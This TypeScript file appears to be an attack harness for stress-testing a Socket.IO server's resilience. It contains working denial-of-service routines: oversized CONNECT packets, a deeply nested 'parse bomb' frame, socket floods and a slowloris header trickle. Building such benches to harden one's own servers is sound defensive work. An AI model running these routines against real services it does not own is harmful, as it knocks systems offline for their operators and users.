import { connect } from 'node:net';
import type { Socket as NetSocket } from 'node:net';
import WebSocket from 'ws';

/** The phases of the hostile bench: the baseline and one per attack. */
export const PHASES = [
  'baseline',
  'connect-packets',
  'parse-bomb',
  'socket-storm',
  'dashboard-viewers',
  'slowloris',
] as const;
export type PhaseName = (typeof PHASES)[number];
export type AttackName = Exclude<PhaseName, 'baseline'>;
export const ATTACKS = PHASES.filter((phase): phase is AttackName => phase !== 'baseline');

/** What an attack reports when it stops. */
export interface AttackTally {
  opened: number;
  refused: number;
  closedByServer: number;
}

export type Attack = (url: string, stop: AbortSignal) => Promise<AttackTally>;

export function sleep(ms: number, signal?: AbortSignal): Promise<void> {
  return new Promise((done) => {
    if (signal?.aborted) {
      done();
      return;
    }
    const onAbort = (): void => {
      clearTimeout(timer);
      done();
    };
    const timer = setTimeout(() => {
      signal?.removeEventListener('abort', onAbort);
      done();
    }, ms);
    signal?.addEventListener('abort', onAbort, { once: true });
  });
}

/**
 * Opens a raw Engine.IO WebSocket (the `ws` library: far cheaper per socket than socket.io-client,
 * so the attacker process stays light) and sends `firstFrame` once the server's open packet
 * arrived. Resolves `true` when it was let in, `false` when the handshake was refused.
 */
function rawEngineSocket(
  url: string,
  firstFrame: string | undefined,
): Promise<{ socket: WebSocket; connected: boolean }> {
  const socket = new WebSocket(`${url.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`, {
    perMessageDeflate: false,
  });
  return new Promise((done) => {
    socket.once('message', (data) => {
      if (String(data).startsWith('0') && firstFrame !== undefined) socket.send(firstFrame);
      done({ socket, connected: true });
    });
    socket.once('unexpected-response', (_request, response) => {
      response.resume();
      socket.terminate();
      done({ socket, connected: false });
    });
    socket.on('error', () => done({ socket, connected: false }));
    socket.once('close', () => done({ socket, connected: false }));
  });
}

/** Answers Engine.IO pings, as a live client does, so held sockets are not dropped for silence. */
function answerPings(socket: WebSocket): void {
  socket.on('message', (data) => {
    if (String(data) === '2') socket.send('3');
  });
}

function closedByPeer(socket: WebSocket): Promise<void> {
  return new Promise((done) => {
    if (socket.readyState === WebSocket.CLOSED) done();
    else socket.once('close', () => done());
  });
}

/** One connection at a time, each opening with a 1 MiB auth payload in its CONNECT packet. */
const connectPackets: Attack = async (url, stop) => {
  const tally: AttackTally = { opened: 0, refused: 0, closedByServer: 0 };
  const frame = `40${JSON.stringify({ pad: 'A'.repeat(1 << 20) })}`;
  while (!stop.aborted) {
    const { socket, connected } = await rawEngineSocket(url, frame);
    tally.opened++;
    if (!connected) {
      tally.refused++;
      await sleep(20, stop);
      continue;
    }
    await Promise.race([closedByPeer(socket).then(() => tally.closedByServer++), sleep(2_000, stop)]);
    socket.terminate();
  }
  return tally;
};

/** One connection at a time, each sending an 8 MiB text frame of nested arrays after connecting. */
const parseBomb: Attack = async (url, stop) => {
  const tally: AttackTally = { opened: 0, refused: 0, closedByServer: 0 };
  const depth = 4 << 20;
  const frame = `42["hello",${'['.repeat(depth)}1${']'.repeat(depth)}]`;
  while (!stop.aborted) {
    const { socket, connected } = await rawEngineSocket(url, '40');
    tally.opened++;
    if (!connected) {
      tally.refused++;
      await sleep(20, stop);
      continue;
    }
    socket.send(frame);
    await Promise.race([closedByPeer(socket).then(() => tally.closedByServer++), sleep(2_000, stop)]);
    socket.terminate();
  }
  return tally;
};

/** Opens `count` sockets that join `namespaceFrame` (`40` or `40/dashboard,`) and hold them. */
function holdSockets(count: number, namespaceFrame: string): Attack {
  return async (url, stop) => {
    const tally: AttackTally = { opened: 0, refused: 0, closedByServer: 0 };
    const held: WebSocket[] = [];
    for (let i = 0; i < count && !stop.aborted; i += 100) {
      const batch = await Promise.all(
        Array.from({ length: Math.min(100, count - i) }, () => rawEngineSocket(url, namespaceFrame)),
      );
      for (const { socket, connected } of batch) {
        tally.opened++;
        if (!connected) {
          tally.refused++;
          continue;
        }
        answerPings(socket);
        socket.once('close', () => {
          if (!stop.aborted) tally.closedByServer++;
        });
        held.push(socket);
      }
    }
    await sleep(60_000, stop);
    for (const socket of held) socket.terminate();
    return tally;
  };
}

function slowloris(count: number): Attack {
  return async (url, stop) => {
    const tally: AttackTally = { opened: 0, refused: 0, closedByServer: 0 };
    const { hostname, port } = new URL(url);
    const held: NetSocket[] = [];
    for (let i = 0; i < count && !stop.aborted; i++) {
      const socket = connect({ host: hostname, port: Number(port) });
      socket.on('error', () => undefined);
      socket.once('connect', () => socket.write('GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: '));
      socket.once('close', () => tally.closedByServer++);
      tally.opened++;
      held.push(socket);
    }
    const trickle = setInterval(() => held.forEach((socket) => socket.writable && socket.write('a')), 1_000);
    await sleep(60_000, stop);
    clearInterval(trickle);
    for (const socket of held) socket.destroy();
    return tally;
  };
}

function attackFor(name: AttackName, count: number): Attack {
  switch (name) {
    case 'connect-packets':
      return connectPackets;
    case 'parse-bomb':
      return parseBomb;
    case 'socket-storm':
      return holdSockets(count, '40');
    case 'dashboard-viewers':
      return holdSockets(count, '40/dashboard,');
    case 'slowloris':
      return slowloris(count);
    default: {
      const unknown: never = name;
      throw new RangeError(`--attack must name an attack phase, got ${String(unknown)}`);
    }
  }
}

/** Attacker mode: runs one attack until SIGTERM, then prints its tally as JSON. */
export async function attackerMain(name: AttackName, url: string, count: number): Promise<void> {
  const stop = new AbortController();
  process.once('SIGTERM', () => stop.abort());
  const tally = await attackFor(name, count)(url, stop.signal);
  process.stdout.write(`${JSON.stringify(tally)}\n`);
  process.exit(0);
}
